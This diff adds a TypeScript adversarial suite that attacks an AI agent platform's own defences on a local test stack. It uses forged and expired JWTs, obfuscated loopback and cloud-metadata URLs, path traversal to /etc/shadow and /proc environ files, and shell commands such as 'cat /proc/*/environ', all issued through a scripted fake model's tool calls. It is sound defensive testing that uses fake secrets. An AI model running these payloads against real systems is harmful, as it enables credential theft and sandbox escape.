@@ -1,0 +1,382 @@
+/**
+ * The adversarial suite: attacks on the trust boundary, run as an attacker would run them, against
+ * the real parts — an in-memory Temporal dev server, a worker with a narrow policy and fake secrets in
+ * its environment, the HTTP API with JWT roles — and judged from outside. Not a test: it prints, per
+ * category, how many attempts were made and how many held, and names every attempt that did not.
+ *
+ * The attacker holds an operator token and, through the tasks it submits, the model: a fake
+ * OpenAI-compatible server (the policy allows it) answers each task's first call with the tool calls
+ * the attack names and records every request, so whatever a tool returned reaches it. An attempt
+ * holds when none of the worker's secrets reach the attacker (an HTTP answer, the model, a listener),
+ * nothing outside the workspace changed, and what the attempt expects (a refusal, a 404) happened.
+ *
+ * ```sh
+ * npm run build && node lib/bench/adversarial.js [--only llm-endpoint,llm-file]
+ * ```
+ */
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+import { serve, type ServerType } from '@hono/node-server';
+import { createApp } from '../api/app';
+import { authenticator, devToken, type Role } from '../api/auth';
+import { environmentLine, startBenchStack, type BenchStack } from './stack';
+
+/** The worker's secrets: none may reach the attacker. */
+const SECRETS = {
+  OPENAI_API_KEY: 'sk-adversarial-openai-5e1f0c',
+  AWS_SECRET_ACCESS_KEY: 'aws-adversarial-secret-9b2d',
+  STARRY_API_JWT_SECRET: 'jwt-adversarial-secret-3c7a-at-least-32-characters',
+};
+/** A file outside every root. */
+const OUTSIDE_SECRET = 'OUTSIDE-adversarial-77aa';
+
+/** One HTTP request's answer. */
+interface Answer {
+  status: number;
+  text: string;
+}
+
+/** What an attempt can use. */
+interface Ctx {
+  /** POST/GET the API as `role` (tenant `t1` unless given). */
+  api(method: string, url: string, opts?: { role?: Role; body?: unknown; token?: string | null; tenant?: string }): Promise<Answer>;
+  /** Submit a task whose model asks for `calls` (`[wire tool name, args]`), wait for it, return the answer. */
+  attack(calls: Array<[string, Record<string, unknown>]>, tools?: Record<string, unknown>): Promise<Answer>;
+  /** Submit a task with this `llm` spec (and config) to a new agent, in a workspace the policy allows. */
+  submit(llm: string, opts?: { wait?: number; config?: Record<string, unknown>; agentId?: string }): Promise<Answer>;
+  /** The llm spec of the attacker's model. */
+  model: string;
+  listenerUrl: string;
+  root: string;
+  outside: string;
+  scripts: string;
+  policyFile: string;
+  token(role: Role, opts?: { tenant?: string; expired?: boolean; secret?: string; sub?: string }): Promise<string>;
+  agentId(): string;
+}
+
+interface Attempt {
+  category: string;
+  name: string;
+  /** Resolves with why the attempt got through, or undefined when it held. */
+  run(ctx: Ctx): Promise<string | undefined>;
+}
+
+const attempts: Attempt[] = [];
+const attempt = (category: string, name: string, run: Attempt['run']) => attempts.push({ category, name, run });
+const expectStatus = (a: Answer, ...statuses: number[]) => (statuses.includes(a.status) ? undefined : `HTTP ${a.status}: ${a.text.slice(0, 200)}`);
+/** A refusal at submit that names the `llm` field (not another field the attempt did not mean to test). */
+const refusedLlm = (a: Answer) => (a.status === 409 && a.text.includes('- llm: ') ? undefined : `HTTP ${a.status}: ${a.text.slice(0, 300)}`);
+/** What a file's content would look like in an answer. */
+const CONTENT = /root:x:0:0|root:\*:|OUTSIDE-adversarial|"shellAllow":\["sh"\]|STARRY_WORKER_POLICY=|sk-adversarial/;
+
+// ---- authentication and roles ---------------------------------------------------------------------
+
+attempt('auth', 'no token', async (c) => expectStatus(await c.api('GET', '/v1/agents', { token: null }), 401));
+attempt('auth', 'a token that is not a JWT', async (c) => expectStatus(await c.api('GET', '/v1/agents', { token: 'not.a.jwt' }), 401));
+attempt('auth', 'alg none', async (c) => {
+  const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
+  const none = `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'x', roles: ['admin'], exp: Math.floor(Date.now() / 1000) + 600 })}.`;
+  return expectStatus(await c.api('GET', '/v1/agents', { token: none }), 401);
+});
+attempt('auth', 'signed with another secret', async (c) => expectStatus(await c.api('GET', '/v1/agents', { token: await c.token('admin', { secret: 'another-secret-that-is-at-least-32-characters' }) }), 401));
+attempt('auth', 'expired', async (c) => expectStatus(await c.api('GET', '/v1/agents', { token: await c.token('admin', { expired: true }) }), 401));
+attempt('auth', 'a viewer submits', async (c) => expectStatus(await c.api('POST', `/v1/agents/${c.agentId()}/tasks`, { role: 'viewer', body: { goal: 'x', llm: c.model } }), 403));
+attempt('auth', 'an operator unlocks', async (c) => expectStatus(await c.api('POST', `/v1/agents/${c.agentId()}/unlock`, { role: 'operator', body: {} }), 403, 404));
+
+// ---- LLM endpoints: the worker's key must reach no one ---------------------------------------------
+
+const listenerForms = (url: string): string[] => {
+  const port = new URL(url).port;
+  return [
+    `${url}/v1`,
+    `http://localhost:${port}/v1`,
+    `http://127.1:${port}/v1`,
+    `http://2130706433:${port}/v1`,
+    `http://0x7f000001:${port}/v1`,
+    `http://[::ffff:127.0.0.1]:${port}/v1`,
+    `http://127.0.0.1.:${port}/v1`,
+    `HTTP://127.0.0.1:${port}/V1`,
+    `http://127.0.0.1:${port}/v1#@api.openai.com`,
+    `http://127.0.0.1:${port}/v1?x=api.openai.com`,
+    `http://169.254.169.254/latest/meta-data`,
+  ];
+};
+for (let i = 0; i < listenerForms('http://127.0.0.1:1').length; i++) {
+  attempt('llm-endpoint', `base URL form ${i + 1}`, async (c) => {
+    const url = listenerForms(c.listenerUrl)[i] as string;
+    const a = await c.submit(`openai:gpt@${url}`, { wait: 20 });
+    // A form that is not a URL at all is a 400; any URL is refused by the policy.
+    return a.status === 400 ? undefined : refusedLlm(a);
+  });
+}
+attempt('llm-endpoint', 'a config that names the listener for an existing agent', async (c) => {
+  const agentId = c.agentId();
+  await c.submit(c.model, { wait: 20, agentId });
+  return refusedLlm(await c.submit(`openai:gpt@${c.listenerUrl}/v1`, { wait: 20, agentId }));
+});
+
+// ---- files an llm spec names: no content, no existence oracle --------------------------------------
+
+const fileTargets = (c: Ctx) => ['/etc/shadow', '/etc/passwd', '/proc/self/environ', `/proc/${process.pid}/environ`, c.policyFile, path.join(c.outside, 'secret.json'), `${c.root}/../outside/secret.json`, path.join(c.scripts, 'link.json')];
+for (let i = 0; i < 8; i++) {
+  attempt('llm-file', `scripted: target ${i + 1}`, async (c) => {
+    const file = fileTargets(c)[i] as string;
+    const a = await c.submit(`scripted:${file}`, { wait: 20 });
+    if (CONTENT.test(a.text)) return `the answer shows the file's content: ${a.text.slice(0, 200)}`;
+    // A file outside is refused at submit; one inside that is a symlink out fails at its first call.
+    return a.status === 200 && /EPERM/.test(a.text) ? undefined : refusedLlm(a);
+  });
+}
+attempt('llm-file', 'existing and missing files are refused in the same words', async (c) => {
+  const refusal = async (file: string) => (await c.submit(`scripted:${file}`)).text.replaceAll(file, 'FILE');
+  const [a, b] = [await refusal('/etc/passwd'), await refusal('/etc/no-such-file')];
+  return a === b ? undefined : `the answers differ: ${a} / ${b}`;
+});
+attempt('llm-file', 'local: a model outside', async (c) => refusedLlm(await c.submit('local:/etc/shadow/../passwd.gguf')));
+
+// ---- workspace escapes through the fs tools ---------------------------------------------------------
+
+const fsPaths = (c: Ctx) => [
+  '../outside/secret.txt',
+  `${c.outside}/secret.txt`,
+  '/proc/self/environ',
+  `/proc/${process.pid}/environ`,
+  '/proc/self/root/etc/shadow',
+  '/etc/shadow',
+  '%2e%2e/outside/secret.txt',
+  'link-out/secret.txt',
+  '/dev/fd/0',
+  '../../../../../../proc/1/environ',
+];
+for (let i = 0; i < 10; i++) {
+  attempt('fs', `fs.read path ${i + 1}`, async (c) => {
+    await c.attack([['fs_read', { path: fsPaths(c)[i] as string }]]);
+    return undefined; // judged by the secrets' absence
+  });
+}
+attempt('fs', 'fs.write through a symlink out', async (c) => {
+  await c.attack([['fs_write', { path: 'link-out/new.txt', content: 'x' }]]);
+  return undefined;
+});
+attempt('fs', 'fs.list of a symlinked directory', async (c) => {
+  await c.attack([['fs_list', { path: 'link-out' }]]);
+  return undefined;
+});
+
+// ---- shell.run: confined, whatever the arguments ---------------------------------------------------
+
+const shellCalls = (c: Ctx): Array<Record<string, unknown>> => [
+  { command: 'cat', args: [`/proc/${process.pid}/environ`] },
+  { command: 'cat', args: ['/etc/shadow'] },
+  { command: 'cat', args: ['link-out/secret.txt'] },
+  { command: 'sh', args: ['-c', 'cat /proc/*/environ'] },
+  { command: 'sh', args: ['-c', 'env'] },
+  { command: 'sh', args: ['-c', `echo pwned > ${c.outside}/pwned.txt`] },
+  { command: 'sh', args: ['-c', 'cat /etc/passwd; id'] },
+  { command: 'sh', args: ['-c', 'ln -s /etc/shadow s && cat s'] },
+];
+for (let i = 0; i < 8; i++) {
+  attempt('shell', `shell.run ${i + 1}`, async (c) => {
+    await c.attack([['shell_run', shellCalls(c)[i] as Record<string, unknown>]], { shellAllow: ['cat', 'sh'] });
+    return undefined;
+  });
+}
+
+// ---- http.get: only allowed hosts ----------------------------------------------------------------
+
+attempt('http', 'a config allowing the listener is refused', async (c) => {
+  const a = await c.submit(c.model, { config: { tools: { httpAllow: [new URL(c.listenerUrl).host] } } });
+  return a.status === 409 && a.text.includes('tools.httpAllow') ? undefined : `HTTP ${a.status}: ${a.text.slice(0, 200)}`;
+});
+attempt('http', 'http.get to a host not allowed', async (c) => {
+  await c.attack([['http_get', { url: `${c.listenerUrl}/steal` }]]);
+  return undefined;
+});
+
+// ---------------------------------------------------------------------------------------------------
+
+interface Recorder {
+  url: string;
+  bodies: string[];
+  close(): Promise<void>;
+}
+
+/** An HTTP server that records every request; `answer` decides the reply. */
+async function recorder(answer: (body: string) => unknown): Promise<Recorder> {
+  const bodies: string[] = [];
+  const server = http.createServer((req, res) => {
+    const chunks: Buffer[] = [];
+    req.on('data', (c: Buffer) => chunks.push(c));
+    req.on('end', () => {
+      const body = `${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${Buffer.concat(chunks).toString('utf8')}`;
+      bodies.push(body);
+      res.writeHead(200, { 'content-type': 'application/json' });
+      res.end(JSON.stringify(answer(Buffer.concat(chunks).toString('utf8'))));
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, bodies, close: () => new Promise((resolve) => server.close(() => resolve())) };
+}
+
+/** The attacker's model: the first call of a task asks for the calls in its goal (`ATTACK <json>`), the next answers. */
+function modelAnswer(body: string): unknown {
+  let req: { messages: Array<{ role: string; content: string | null }> };
+  try {
+    req = JSON.parse(body) as typeof req;
+  } catch {
+    return { error: { message: 'not a chat completions request' } };
+  }
+  const goal = req.messages.find((m) => m.role === 'user' && m.content?.includes('ATTACK '))?.content ?? '';
+  const answered = req.messages.some((m) => m.role === 'assistant');
+  const json = /ATTACK (\[.*\])/.exec(goal)?.[1];
+  const calls = answered || !json ? [] : (JSON.parse(json) as Array<[string, unknown]>);
+  const message = calls.length
+    ? { role: 'assistant', content: null, tool_calls: calls.map(([name, args], i) => ({ id: `c${i}`, type: 'function', function: { name, arguments: JSON.stringify(args) } })) }
+    : { role: 'assistant', content: 'Done.' };
+  return { id: 'x', object: 'chat.completion', choices: [{ index: 0, message, finish_reason: calls.length ? 'tool_calls' : 'stop' }], usage: { prompt_tokens: 10, completion_tokens: 5 } };
+}
+
+/** Every file below `dir` with its content, to see what changed outside. */
+function snapshot(dir: string): Map<string, string> {
+  const out = new Map<string, string>();
+  const walk = (d: string) => {
+    for (const e of readdirSync(d, { withFileTypes: true })) {
+      const p = path.join(d, e.name);
+      if (e.isDirectory()) walk(p);
+      else out.set(p, e.isFile() ? readFileSync(p, 'utf8') : 'other');
+    }
+  };
+  walk(dir);
+  return out;
+}
+
+async function main(): Promise<void> {
+  const only = process.argv.includes('--only') ? new Set((process.argv[process.argv.indexOf('--only') + 1] ?? '').split(',')) : undefined;
+  const base = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'starry-adversarial-')));
+  const root = path.join(base, 'root');
+  const outside = path.join(base, 'outside');
+  const scripts = path.join(base, 'scripts');
+  for (const d of [root, outside, scripts]) mkdirSync(d);
+  writeFileSync(path.join(outside, 'secret.txt'), OUTSIDE_SECRET);
+  writeFileSync(path.join(outside, 'secret.json'), JSON.stringify({ roots: ['/'], shellAllow: ['sh'], note: OUTSIDE_SECRET }));
+  symlinkSync('/etc/passwd', path.join(scripts, 'link.json'));
+  const model = await recorder(modelAnswer);
+  const listener = await recorder(() => ({ choices: [{ message: { role: 'assistant', content: 'pwned' } }] }));
+  const policy = {
+    roots: [root],
+    llmDirs: [scripts],
+    llmAllow: [new URL(model.url).host],
+    shellAllow: ['ls', 'cat', 'sh'],
+    httpAllow: [],
+    maxOutputBytes: 65536,
+  };
+  const policyFile = path.join(base, 'policy.json');
+  writeFileSync(policyFile, JSON.stringify(policy));
+  Object.assign(process.env, SECRETS, { STARRY_WORKER_POLICY: policyFile });
+  const stack: BenchStack = await startBenchStack('adversarial');
+  const app = createApp({ agents: async () => stack.agents, auth: authenticator({ secret: SECRETS.STARRY_API_JWT_SECRET }) });
+  const server: ServerType = await new Promise((resolve) => {
+    const s = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(s));
+  });
+  const apiUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  let n = 0;
+  const token: Ctx['token'] = (role, o = {}) =>
+    devToken({ secret: o.secret ?? SECRETS.STARRY_API_JWT_SECRET, sub: o.sub ?? `attacker-${role}`, roles: [role], ttlSeconds: o.expired ? -60 : 600 });
+  const ctx: Ctx = {
+    model: `openai:adversary@${model.url}/v1`,
+    listenerUrl: listener.url,
+    root,
+    outside,
+    scripts,
+    policyFile,
+    token,
+    agentId: () => `adv-${process.pid}-${++n}`,
+    async api(method, url, o = {}) {
+      const bearer = o.token === null ? undefined : (o.token ?? (await token(o.role ?? 'operator', { tenant: o.tenant })));
+      const res = await fetch(`${apiUrl}${url}`, {
+        method,
+        headers: { 'content-type': 'application/json', ...(bearer ? { authorization: `Bearer ${bearer}` } : {}) },
+        ...(o.body !== undefined ? { body: JSON.stringify(o.body) } : {}),
+      });
+      return { status: res.status, text: await res.text() };
+    },
+    submit(llm, o = {}) {
+      const body = { goal: 'adversarial', llm, config: { workspace: [root], verify: false, tools: { shellAllow: policy.shellAllow }, ...o.config } };
+      return ctx.api('POST', `/v1/agents/${o.agentId ?? ctx.agentId()}/tasks${o.wait ? `?wait=${o.wait}` : ''}`, { body });
+    },
+    async attack(calls, tools = {}) {
+      const ws = path.join(root, `ws-${++n}`);
+      mkdirSync(ws);
+      symlinkSync(outside, path.join(ws, 'link-out'));
+      const body = { goal: `ATTACK ${JSON.stringify(calls)}`, llm: ctx.model, config: { workspace: [ws], verify: false, tools: { shellAllow: policy.shellAllow, ...tools } } };
+      const a = await ctx.api('POST', `/v1/agents/${ctx.agentId()}/tasks?wait=60`, { body });
+      // An attack that never ran proves nothing: the task must have made its calls.
+      const made = a.status === 200 ? (JSON.parse(a.text) as { toolCalls?: unknown[] }).toolCalls?.length ?? 0 : 0;
+      if (made < calls.length) throw new Error(`the attack did not run (HTTP ${a.status}, ${made} call(s)): ${a.text.slice(0, 300)}`);
+      return a;
+    },
+  };
+
+  // The judge's control: the outside secret copied into a workspace and read there must be seen as
+  // leaked, or the suite could not tell a hole from a hold.
+  const control = await (async () => {
+    const seen = model.bodies.length;
+    const ws = path.join(root, 'control');
+    mkdirSync(ws);
+    writeFileSync(path.join(ws, 'copy.txt'), OUTSIDE_SECRET);
+    await ctx.api('POST', `/v1/agents/${ctx.agentId()}/tasks?wait=60`, { body: { goal: `ATTACK ${JSON.stringify([['fs_read', { path: 'copy.txt' }]])}`, llm: ctx.model, config: { workspace: [ws], verify: false, tools: { shellAllow: policy.shellAllow } } } });
+    return model.bodies.slice(seen).some((b) => b.includes(OUTSIDE_SECRET));
+  })();
+  if (!control) throw new Error('the judge\'s control failed: a secret read inside the workspace did not reach the attacker\'s model, so the suite cannot see a leak');
+
+  const before = snapshot(outside);
+  const rows = new Map<string, { attempts: number; held: number }>();
+  const failures: string[] = [];
+  try {
+    for (const a of attempts) {
+      if (only && !only.has(a.category)) continue;
+      const seen = { model: model.bodies.length, listener: listener.bodies.length };
+      let why: string | undefined;
+      try {
+        why = await a.run(ctx);
+      } catch (err) {
+        why = `threw ${(err as Error).message}`;
+      }
+      const reached = [...model.bodies.slice(seen.model), ...listener.bodies.slice(seen.listener)];
+      const leaked = Object.entries({ ...SECRETS, OUTSIDE: OUTSIDE_SECRET }).filter(([, v]) => reached.some((b) => b.includes(v)));
+      if (listener.bodies.length > seen.listener) why ??= `the listener received ${listener.bodies.length - seen.listener} request(s)`;
+      if (leaked.length) why ??= `reached the attacker: ${leaked.map(([k]) => k).join(', ')}`;
+      const after = snapshot(outside);
+      if (after.size !== before.size || [...before].some(([k, v]) => after.get(k) !== v)) why ??= 'a file outside changed';
+      const row = rows.get(a.category) ?? { attempts: 0, held: 0 };
+      row.attempts++;
+      if (why === undefined) row.held++;
+      else failures.push(`${a.category} / ${a.name}: ${why}`);
+      rows.set(a.category, row);
+    }
+  } finally {
+    await new Promise<void>((resolve) => server.close(() => resolve()));
+    await stack.stop();
+    await model.close();
+    await listener.close();
+    rmSync(base, { recursive: true, force: true });
+  }
+
+  const total = [...rows.values()].reduce((t, r) => ({ attempts: t.attempts + r.attempts, held: t.held + r.held }), { attempts: 0, held: 0 });
+  console.log(`\nadversarial suite · ${environmentLine()}\n`);
+  console.log('| category | attempts | held |\n|---|---:|---:|');
+  for (const [category, r] of rows) console.log(`| ${category} | ${r.attempts} | ${r.held} |`);
+  console.log(`| **all** | ${total.attempts} | ${total.held} |`);
+  console.log('\n(the judge\'s control, the outside secret copied into a workspace and read there, was seen as leaked)');
+  if (failures.length) console.log(`\nnot held:\n${failures.map((f) => `- ${f}`).join('\n')}`);
+  process.exitCode = failures.length ? 1 : 0;
+}
+
+main().catch((err: unknown) => {
+  console.error(err);
+  process.exit(1);
+});
